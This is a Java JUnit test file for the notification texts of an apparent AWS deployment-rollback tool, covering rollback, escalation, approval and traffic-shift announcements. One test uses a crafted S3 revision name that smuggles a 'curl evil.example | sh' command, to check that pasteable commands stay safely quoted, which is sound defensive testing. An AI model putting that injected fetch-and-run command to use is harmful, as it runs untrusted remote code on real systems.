package io.github.lastgood.notification;

import static io.github.lastgood.target.Orders.NOW;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.lastgood.decision.Decision;
import io.github.lastgood.decision.Happening;
import io.github.lastgood.decision.Plan;
import io.github.lastgood.decision.Reason;
import io.github.lastgood.ledger.Announcement;
import io.github.lastgood.target.Method;
import io.github.lastgood.target.Mode;
import io.github.lastgood.target.Orders;
import io.github.lastgood.target.Policy;
import io.github.lastgood.target.Revision;
import io.github.lastgood.target.Rollback;
import io.github.lastgood.target.Rollback.Status;
import io.github.lastgood.target.Shift;
import io.github.lastgood.target.Shop;
import io.github.lastgood.target.Target;
import io.github.lastgood.target.TargetState;
import java.time.Duration;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

class NoticesTest {
  private static final Rollback MOVED = Orders.rollback().moved(NOW, Orders.ROLLBACK_DEPLOYMENT_ID);
  private static final Plan PLAN =
      new Plan(
          "orders-api.9313423515462893900",
          Orders.BAD_ID,
          Orders.BAD,
          Orders.GOOD,
          Method.UPDATE_SERVICE);

  private static Announcement of(Decision decision) {
    return Notices.of(Orders.state(), decision, "event-1", NOW).orElseThrow();
  }

  private static Announcement of(Happening happening) {
    return Notices.of(Orders.state(), happening, NOW).orElseThrow();
  }

  private static Announcement started() {
    return Notices.started(Orders.state(), MOVED, NOW, Duration.ofMillis(2_345));
  }

  private static Announcement ended(Status status) {
    return of(
        new Happening.RollbackEnded(
            MOVED.ended(status, NOW.plusSeconds(540)), "This is how it ended."));
  }

  /// Every announcement that people read.
  static Stream<Announcement> notices() {
    return Stream.of(
        started(),
        ended(Status.RECOVERED),
        ended(Status.NOT_RECOVERED),
        ended(Status.FAILED),
        of(new Happening.RolledBackByAws(MOVED)),
        of(new Happening.RedeployedWhileQuarantined(Orders.bad(), "It hurt before.")),
        of(new Decision.Hold(Reason.TARGET_FROZEN, "It is frozen.")),
        of(new Decision.Escalate(Reason.NO_KNOWN_GOOD, "Nothing is good.")),
        of(new Decision.Escalate(Reason.ROLLBACK_DID_NOT_HELP, "It did not help.")),
        of(new Decision.AwaitApproval(PLAN, Reason.MODE_APPROVE, "It went red.")),
        of(new Decision.WouldRollBack(PLAN, Reason.MODE_OBSERVE, "It went red.")),
        of(new Decision.Ignore(Reason.NO_RECENT_DEPLOYMENT, "Nothing was deployed.", true)));
  }

  @ParameterizedTest
  @MethodSource("notices")
  void aSubjectIsWhatSnsTakes(Announcement notice) {
    assertThat(notice.subject()).matches("[\\x20-\\x7e]{10,99}").isNotBlank();
  }

  @ParameterizedTest
  @MethodSource("notices")
  void theTextNamesTheTargetAndWhereItRuns(Announcement notice) {
    assertThat(notice.text()).contains("orders-api").contains("ECS service prod/orders-api");
    assertThat(notice.detail())
        .containsEntry("target", "orders-api")
        .containsEntry("resource", Orders.SERVICE_ARN);
  }

  @ParameterizedTest
  @MethodSource("notices")
  void theBusHearsOfAllButAnAlarmWithoutADeployment(Announcement notice) {
    var isIgnored = "IGNORE".equals(notice.detail().get("decision"));

    assertThat(notice.detailType() == null).isEqualTo(isIgnored);
  }

  @Test
  void aStartedRollbackSaysFromToWhyHowHowLongAndHowToTakeItBack() {
    assertThat(started().subject()).isEqualTo("Rolling back orders-api to orders-api:41");
    assertThat(started().detailType()).isEqualTo("Rollback Started");
    assertThat(started().text())
        .contains("From      orders-api:42, deployment ecs-svc/9313423515462893900\n")
        .contains("To        orders-api:41, known good since 2026-11-01 14:00:00 UTC (bake time)\n")
        .contains("Why       orders-api-5xx went red.\n")
        .contains("How       UpdateService, deployment ecs-svc/4400817263549120773\n")
        .contains("By        lastgood\n")
        .contains("Took      2.3 s from the signal to the move\n")
        .contains("\"command\":\"pardon\"")
        .contains("\"command\":\"rollback\"");
    assertThat(started().detail())
        .containsEntry("rollbackId", "orders-api.9313423515462893900")
        .containsEntry("from", Orders.BAD.id())
        .containsEntry("to", Orders.GOOD.id())
        .containsEntry("status", "SETTLING");
  }

  /// Of a bundle in S3 whose key somebody chose with care.
  @Test
  void aRevisionsNameCannotEndTheQuotesOfACommandThatPeoplePaste() {
    var strange = "s3://bundles/shop'; curl evil.example | sh #\"\\.zip?bundleType=zip";
    var text = Notices.started(Orders.state(), from(strange), NOW, Duration.ofSeconds(2)).text();

    var commands = text.lines().filter(line -> line.contains("aws lambda invoke")).toList();
    assertThat(commands)
        .hasSize(2)
        .allSatisfy(line -> {
          assertThat(line.chars().filter(sign -> sign == '\'')).as(line).hasSize(2);
          var payload = line.substring(line.indexOf('\'') + 1, line.lastIndexOf('\''));
          var command = new ObjectMapper().readTree(payload);
          assertThat(command.path("to").asText(command.path("revision").asText()))
              .isEqualTo(strange);
        });
  }

  private static Rollback from(String revision) {
    return new Rollback(
        MOVED.id(),
        MOVED.deploymentId(),
        Revision.of(revision),
        MOVED.to(),
        MOVED.method(),
        MOVED.status(),
        MOVED.why(),
        MOVED.by(),
        MOVED.alarms(),
        MOVED.claimedAt(),
        NOW,
        null,
        null,
        null,
        null,
        null,
        null);
  }

  @Test
  void aMoveWithoutASignalDoesNotSayHowLongItTook() {
    assertThat(of(new Happening.RolledBackByAws(MOVED)).text()).doesNotContain("Took ");
  }

  @ParameterizedTest
  @EnumSource(Method.class)
  void everyMethodIsSaid(Method method) {
    var rollback =
        new Rollback(
            MOVED.id(),
            MOVED.deploymentId(),
            MOVED.from(),
            MOVED.to(),
            method,
            Status.SETTLING,
            MOVED.why(),
            MOVED.by(),
            List.of(),
            NOW,
            NOW,
            NOW,
            null,
            null,
            null,
            Orders.taskDefinition(43),
            null);
    var notice = Notices.started(Orders.state(), rollback, NOW, Duration.ZERO);

    assertThat(notice.text())
        .contains(
            switch (method) {
              case STOP_SERVICE_DEPLOYMENT ->
                  "How       StopServiceDeployment, because it was still in flight\n";
              case UPDATE_SERVICE -> "How       UpdateService\n";
              case REGISTER_COPY ->
                  "How       UpdateService to a copy, " + Orders.taskDefinition(43) + "\n";
              case STOP_DEPLOYMENT ->
                  "How       StopDeployment with CodeDeploy's own rollback, because it was still in"
                      + " flight\n";
              case CREATE_DEPLOYMENT -> "How       CreateDeployment\n";
              case ROLLBACK_INSTANCE_REFRESH ->
                  "How       RollbackInstanceRefresh, because the refresh was still in flight\n";
              case START_INSTANCE_REFRESH ->
                  "How       StartInstanceRefresh; the group's launch template is pinned to this"
                      + " version when it succeeds\n";
              case COPY_TEMPLATE_VERSION ->
                  "How       StartInstanceRefresh to a copy of the version, "
                      + Orders.taskDefinition(43)
                      + "\n";
              case SHIFT_TRAFFIC -> "How       the weights are set back in one call\n";
              case BY_AWS -> " does it by itself\n";
            });
    assertThat(notice.subject())
        .startsWith(method == Method.BY_AWS ? "ECS is rolling back" : "Rolling back");
  }

  @Test
  void anEndSaysHowItEndedAndHowLongItTook() {
    assertThat(ended(Status.RECOVERED))
        .returns("Rollback Recovered", Announcement::detailType)
        .returns("orders-api recovered on orders-api:41", Announcement::subject);
    assertThat(ended(Status.NOT_RECOVERED))
        .returns("Rollback Not Recovered", Announcement::detailType)
        .returns(
            "orders-api did NOT recover after the rollback to orders-api:41",
            Announcement::subject);
    assertThat(ended(Status.FAILED))
        .returns("Rollback Failed", Announcement::detailType)
        .returns("The rollback of orders-api to orders-api:41 FAILED", Announcement::subject);
    assertThat(ended(Status.FAILED).text())
        .contains("Result    This is how it ended.\n")
        .contains("Took      9 min\n")
        .contains("A person must look now.");
  }

  @Test
  void onlyARollbackThatHelpedSaysHowToTakeItBack() {
    assertThat(ended(Status.RECOVERED).text()).contains("\"command\":\"pardon\"");
    assertThat(ended(Status.FAILED).text()).doesNotContain("\"command\":\"pardon\"");
  }

  @Test
  void whatWaitsForAWordNamesThePlanAndTheCommand() {
    var waiting = of(new Decision.AwaitApproval(PLAN, Reason.MODE_APPROVE, "It went red."));

    assertThat(waiting.detailType()).isEqualTo("Rollback Awaiting Approval");
    assertThat(waiting.detail())
        .containsEntry("rollbackId", PLAN.rollbackId())
        .containsEntry("to", Orders.GOOD.id());
    assertThat(waiting.text())
        .contains("From      orders-api:42\n")
        .contains("To        orders-api:41\n")
        .contains("To roll back now, until 2026-11-02 10:45:32 UTC:\n  aws lambda invoke")
        .contains("\"command\":\"approve\"")
        .contains("To leave this deployment alone:\n  aws lambda invoke");
  }

  @Test
  void anEscalationSaysWhyInPlainWords() {
    var escalated = of(new Decision.Escalate(Reason.NO_KNOWN_GOOD, "Nothing is good."));

    assertThat(escalated.subject()).isEqualTo("orders-api needs a person: no known good");
    assertThat(escalated.detail())
        .containsEntry("decision", "ESCALATE")
        .containsEntry("reason", "NO_KNOWN_GOOD")
        .containsEntry("message", "Nothing is good.");
    assertThat(escalated.text()).contains("Why       Nothing is good.\n");
  }

  @Test
  void aRefusedDeploymentSaysWhatAndWhyAndHowToLookFurther() {
    var refused =
        Notices.refused(
            Orders.state(), Orders.BAD, "orders-api:42 is quarantined: it hurt.", "hook-1", NOW);

    assertThat(refused)
        .returns("refused.hook-1", Announcement::id)
        .returns("Deployment Refused", Announcement::detailType)
        .returns("Refused to let orders-api:42 go on for orders-api", Announcement::subject);
    assertThat(refused.detail())
        .containsEntry("revision", Orders.BAD.id())
        .containsEntry("message", "orders-api:42 is quarantined: it hurt.");
    assertThat(refused.text())
        .contains("Why       orders-api:42 is quarantined: it hurt.\n")
        .contains("\"command\":\"status\"");
  }

  private static Announcement shift(Shift shift, boolean complete) {
    return Notices.of(Shop.state(), new Happening.ShiftMoved(shift, complete), NOW).orElseThrow();
  }

  @Test
  void theBusHearsOfEveryStepAndPeopleOfTheEnd() {
    var begun = Shop.shift(5, 100);
    var once = begun.stepped(NOW, null);
    assertThat(shift(begun, false))
        .returns("Shift Started", Announcement::detailType)
        .returns(null, Announcement::subject);
    assertThat(shift(once, false))
        .returns("Shift Stepped", Announcement::detailType)
        .returns(null, Announcement::subject);
    assertThat(shift(once, false).detail())
        .containsEntry("side", "candidate")
        .containsEntry("percent", "5")
        .containsEntry("by", "ana");

    var done = shift(once.stepped(NOW, null), true);
    assertThat(done)
        .returns("Shift Completed", Announcement::detailType)
        .returns("Shift of shop-front completed: 100 % to candidate", Announcement::subject);
    assertThat(done.text()).contains("It is known good when its alarms stay quiet");
    assertThat(shift(Shop.shift(50).stepped(NOW, null), true).text())
        .contains("Both sides get traffic, so it does not bake yet.");
  }

  @Test
  void aHaltSaysWhyAndHowToGoOn() {
    var halted = shift(Shop.shift(5, 100).stepped(NOW, null).haltedBecause("It went red."), false);

    assertThat(halted)
        .returns("Shift Halted", Announcement::detailType)
        .returns("Shift of shop-front halted at step 1", Announcement::subject);
    assertThat(halted.detail()).containsEntry("message", "It went red.");
    assertThat(halted.text())
        .contains("Why       It went red.\n")
        .contains("Steps     1 of 5, 100 % to the candidate are made\n")
        .contains("\"command\":\"shift\"")
        .contains("\"action\":\"resume\"");
  }

  @Test
  void whatStaysBehindARollbackOfASplitIsToBeMinded() {
    var open = Shop.rollback(Shop.STABLE).moved(NOW, null);

    assertThat(Notices.started(Shop.state(), open, NOW, Duration.ZERO).text())
        .contains(
            "Mind      the next CloudFormation or Terraform run sets its own weights again\n");
    assertThat(Notices.started(Shop.state(Shop.DNS), open, NOW, Duration.ZERO).text())
        .contains("Mind      resolvers may keep the old answer for 60 s (TTL)");
    assertThat(started().text()).doesNotContain("Mind ");
  }

  @Test
  void theRollbackOfASplitIsTakenBackByShiftingForwardAgain() {
    var toStable = Shop.rollback(Shop.STABLE).moved(NOW, null);
    var toCandidate = Shop.rollback(Shop.CANDIDATE).moved(NOW, null);

    assertThat(Notices.started(Shop.state(), toStable, NOW, Duration.ZERO).text())
        .contains("\"to\":\"candidate\",\"steps\":[100]")
        .doesNotContain("\"command\":\"pardon\"");
    assertThat(Notices.started(Shop.state(), toCandidate, NOW, Duration.ZERO).text())
        .contains("\"to\":\"stable\",\"steps\":[100]");
  }

  @Test
  void whatNobodyNeedsToHearOfIsNotSaid() {
    assertThat(
            Notices.of(Orders.state(), new Decision.Ignore(Reason.NOT_RED, "OK.", false), "e", NOW))
        .isEmpty();
    assertThat(
            Notices.of(
                Orders.state(),
                new Decision.RollBack(PLAN, Reason.ALARM_AFTER_DEPLOYMENT, "It went red."),
                "e",
                NOW))
        .as("a rollback is announced when it was moved")
        .isEmpty();
    assertThat(Notices.of(Orders.state(), new Happening.Started(Orders.bad()), NOW)).isEmpty();
    assertThat(Notices.of(Orders.state(), new Happening.Settled(Orders.bad()), NOW)).isEmpty();
  }

  @Test
  void aVerdictOnARevisionIsForTheBusAlone() {
    var good = of(new Happening.BecameKnownGood(Orders.known(Orders.GOOD, Orders.GOOD_ID)));
    var bad = of(new Happening.BecameQuarantined(Orders.BAD, "It went red."));

    assertThat(good)
        .returns(null, Announcement::subject)
        .returns("Revision Known Good", Announcement::detailType);
    assertThat(bad)
        .returns(null, Announcement::subject)
        .returns("Revision Quarantined", Announcement::detailType);
    assertThat(bad.detail()).containsEntry("message", "It went red.");
  }

  @Test
  void aLongNameInForeignLettersStillMakesASubject() {
    var name = "bestell-dienst-äöü-" + "x".repeat(120);
    var target = new Target(name, Orders.SERVICE, List.of(Orders.ALARM), Policy.of(Mode.AUTO));
    var notice =
        Notices.started(
            TargetState.registered(target).withCurrent(Orders.bad()), MOVED, NOW, Duration.ZERO);

    assertThat(Objects.requireNonNull(notice.subject()))
        .hasSize(99)
        .startsWith("Rolling back bestell-dienst-???-xxx")
        .endsWith("...");
    assertThat(notice.text()).as("the text keeps all of it").contains(name + " to orders-api:41");
  }

  @Test
  void everyAnnouncementOfAStoryHasAnIdOfItsOwn() {
    assertThat(notices().map(Announcement::id).filter(id -> !id.startsWith("answer.")))
        .contains("orders-api.9313423515462893900.started", "orders-api.9313423515462893900.ended");
    assertThat(of(new Decision.Hold(Reason.TARGET_FROZEN, "It is frozen.")).id())
        .isEqualTo("answer.orders-api.event-1");
  }
}
